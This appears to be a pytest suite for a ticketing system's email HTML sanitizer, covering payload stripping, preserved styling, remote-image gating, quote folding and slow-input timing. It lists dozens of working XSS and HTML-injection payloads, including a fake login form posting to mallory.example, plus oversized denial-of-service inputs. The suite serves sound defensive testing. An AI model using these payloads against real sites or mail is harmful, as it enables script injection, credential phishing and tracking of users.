"""HTML of strangers (A1): a list of payloads of our own, what stays, pictures, quotes known by structure."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tickets.domain.mail import clean_html, fold_quote, html_to_text, is_remote_picture_in
from tickets.domain.mail.html import with_pictures

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//mallory.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=`x`/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s><use href="data:image/svg+xml,x">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    '<math href="javascript:alert(1)">x</math>',
    "<body onload=alert(1)>x</body>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//mallory.example">x</a>',
    '<a href="/tickets/1/delete">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img data-src="javascript:alert(1)">',
    '<img srcset="https://mallory.example/x 1x">',
    "<form action=https://mallory.example><input name=password><button>Sign in</button></form>",
    '<base href="https://mallory.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://mallory.example/x.css">',
    '<style>@import "https://mallory.example/x.css";body{display:none}</style>',
    "<style><img src=x onerror=alert(1)></style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background:url(https://mallory.example/x)">x</p>',
    '<p style="backg\\72ound:u\\72l(https://mallory.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="width:exp/**/ression(alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;z-index:9999">x</p>',
    '<p style="behavior:url(#x)">x</p>',
    '<table background="//mallory.example/x"><tr><td background="javascript:alert(1)">x</td></tr></table>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<p id="message-1" class="btn" name="x" data-hx-get="/x" hx-get="/x" hx-trigger="load">x</p>',
    '<a href="https://acme.example" onclick="alert(1)" ping="https://mallory.example">x</a>',
    '<p title="&quot; onmouseover=alert(1) x=&quot;">x</p>',
    '<img alt="<img src=x onerror=alert(1)>" src="https://mallory.example/\'onerror=alert(1)">',
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<dialog open><h1>You are signed out</h1></dialog>",
    "<portal src=https://mallory.example></portal><frameset><frame src=javascript:alert(1)></frameset>",
]
KNOWN = """
a abbr acronym article aside b bdi bdo blockquote br caption center cite code col colgroup data dd
del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hgroup hr i img
ins kbd li main mark nav ol p pre q s samp section small span strike strong sub summary sup table
tbody td tfoot th thead time tr tt u ul var wbr big
"""
TAGS = frozenset(KNOWN.split())


class Watch(HTMLParser):
    """Walks over cleaned HTML and complains about everything that is not known to be harmless."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert not name.startswith(("on", "hx-", "data-hx")), name
            assert name not in {"id", "class", "name", "srcset", "background", "ping", "target", "action"}
            text = "".join((value or "").lower().split())
            if name == "href":
                assert text.startswith(("http://", "https://", "mailto:", "tel:", "#"))
            if name == "src":
                assert text.startswith(("cid:", "data:image/png", "data:image/gif", "data:image/jp"))
            if name == "style":
                assert not any(word in text for word in ("url", "expression", "position", "\\", "/*"))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def assert_harmless(html: str) -> None:
    watch = Watch()
    watch.feed(html)
    watch.close()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a1_nothing_in_a_mail_runs_loads_or_leaves_its_place(payload: str) -> None:
    for html in (
        payload,
        f"<p>Hello</p>{payload}<b>Bye</b>",
        f"<table><tr><td>{payload}",
        f"<b title='{payload}",
    ):
        cleaned = clean_html(html)
        assert_harmless(cleaned)
        assert clean_html(cleaned) == cleaned


@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "<", ">", '"', "'", "<p ", "<!--", "-->", "x", "</", "=", "\x00"]),
        max_size=6,
    )
)
def test_a1_no_mixture_of_payloads_gets_through(parts: list[str]) -> None:
    cleaned = clean_html("".join(parts))
    assert_harmless(cleaned)
    assert clean_html(cleaned) == cleaned
    fold_quote("".join(parts), html=True)


def test_what_a_mail_looks_like_stays() -> None:
    html = (
        '<p style="color:#333;margin-top:4px" dir="rtl">Hello <b>Anna</b> '
        '<a href="https://acme.example/?a=1&amp;b=2">here</a></p>'
        '<table border="1"><tbody><tr><td colspan="2" bgcolor="#fff">x</td></tr></tbody></table>'
    )
    assert clean_html(html) == html.replace('">here', '" rel="noopener noreferrer nofollow">here')


def test_only_the_bad_part_of_a_style_is_lost() -> None:
    html = '<p style="color:red;position:fixed;background:url(https://x.example)">x</p>'
    assert clean_html(html) == '<p style="color:red">x</p>'


@pytest.mark.parametrize(
    "style", ["z-index:9", "transform:scale(9)", "animation:x 1s", "opacity:0", "inset:0", "mso-x:1"]
)
def test_a1_a_style_that_nobody_needs_in_a_mail_is_dropped(style: str) -> None:
    assert clean_html(f'<p style="{style};color:red">x</p>') == '<p style="color:red">x</p>'


def test_remote_pictures_wait_until_they_are_asked_for() -> None:
    cleaned = clean_html('<img alt="a>b" src="https://mallory.example/seen.gif?a=1&b=2">')
    assert is_remote_picture_in(cleaned)
    assert ' src="' not in cleaned
    shown = with_pictures(cleaned, inline={}, is_remote_shown=True)
    assert 'src="https://mallory.example/seen.gif?a=1&amp;b=2"' in shown
    assert with_pictures(cleaned, inline={}, is_remote_shown=False) == cleaned


def test_pictures_of_the_mail_itself_are_shown_at_once() -> None:
    cleaned = clean_html(
        '<img src="cid:Logo%401" width="9"><img src="cid:none"><img src="data:image/png;base64,AA">'
    )
    assert not is_remote_picture_in(cleaned)
    shown = with_pictures(cleaned, inline={"<logo@1>": '/attachments/"1'}, is_remote_shown=False)
    assert shown == '<img src="/attachments/&quot;1" width="9"><img><img src="data:image/png;base64,AA">'


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One<br>two</p><ul><li>a</li></ul>", "One\ntwo\n\n  * a"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a  b"),
        ("<style>p{}</style><p>x</p><script>y</script>", "x"),
        ("<?xml version='1.0' encoding='utf-8'?><p>Grüße &amp; Küsse</p>", "Grüße & Küsse"),
        ("no tags at all", "no tags at all"),
        ("<div>" * 3000 + "deep", "deep"),
        ("<b>" * 60_000 + "wide", "wide"),
        ("", ""),
        ("<!-- nothing -->", ""),
    ],
    ids=lambda value: value[:30],
)
def test_html_says_in_text_what_it_says(html: str, text: str) -> None:
    assert html_to_text(html) == text


QUOTED = {
    "gmail": '<div>Yes</div><br><div class="gmail_quote"><div class="gmail_attr">On Tue Bob wrote:</div>'
    '<blockquote class="gmail_quote">old</blockquote></div>',
    "apple": "<div>Yes</div><div>On Mar 3, 2026, at 4:19 PM, Bob wrote:</div>"
    '<blockquote type="cite">old</blockquote>',
    "thunderbird": '<p>Yes</p><div class="moz-cite-prefix">Am 03.03.26 schrieb Bob:</div>'
    '<blockquote type="cite">old</blockquote>',
    "thunderbird, answer below": '<div class="moz-cite-prefix">Am 03.03.26 schrieb Bob:</div>'
    '<blockquote type="cite">old</blockquote><p>Yes</p>',
    "outlook on the web": '<div>Yes</div><div id="appendonsend"></div><hr>'
    '<div id="divRplyFwdMsg"><b>From:</b> Bob<br></div><div>old</div>',
    "outlook": "<div><p>Yes</p><div>"
    "<div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt'><p><b>From:"
    "</b> Bob</p></div></div><p>old</p></div>",
    "yahoo": '<div>Yes</div><div class="yahoo_quoted">old</div>',
    "proton": '<div>Yes</div><div class="protonmail_quote">old</div>',
    "words only": "<p>Yes</p><p>-----Original Message-----<br>From: Bob<br>old</p>",
    "signature": '<p>Yes</p><div class="gmail_signature">-- <br>Anna old</div>',
}


@pytest.mark.parametrize("html", QUOTED.values(), ids=list(QUOTED))
def test_the_quoted_mail_is_known_by_the_structure(html: str) -> None:
    visible, folded = fold_quote(html, html=True)
    assert visible == "Yes"
    assert "old" in folded


@pytest.mark.parametrize(
    "html",
    [
        '<p>See below</p><blockquote type="cite">Which?</blockquote><p>Blue</p>'
        '<blockquote type="cite">Where?</blockquote><p>Here</p>',
        '<p>FYI</p><div class="gmail_quote">------ Forwarded message ------<br>From: Eve<br>Buy!</div>',
        '<blockquote type="cite">only this</blockquote>',
    ],
    ids=["answers between", "forwarded", "nothing else"],
)
def test_on_doubt_all_of_the_page_is_shown(html: str) -> None:
    assert fold_quote(html, html=True) == (html_to_text(html), "")


HOSTILE = {
    "deep": "<div>" * 30_000 + "x",
    "bold": "".join(f"<b title={n}>" for n in range(3_000)) + "<p>x" * 3_000,
    "less bold": "".join(f"<i title={n}>" for n in range(12)) + "<p>x" * 8_000,
    "links": '<a href="https://acme.example">x</a> ' * 5_000,
    "lists": "<ul><li>" * 30_000,
    "paragraphs": "<p>" * 60_000,
    "signs": "<" * 200_000,
    "quotes": "<img " + '"' * 200_000,
    "comments": "<!--" * 50_000,
    "large": "x" * 5_100_000,
    "closed": "</div>" * 50_000 + "<p>x</p>",
    "entities": "&" * 400_000,
    "styles without end": "<style><" * 60_000,
    "hard blanks": "\xa0" * 300_000,
}


@pytest.mark.parametrize("html", HOSTILE.values(), ids=list(HOSTILE))
def test_a8_a_page_made_to_be_slow_is_read_in_time(html: str) -> None:
    start = time.process_time()
    cleaned = clean_html(html)
    fold_quote(html, html=True)
    assert time.process_time() - start < 2
    assert len(cleaned) <= 5 * len(html) + 100
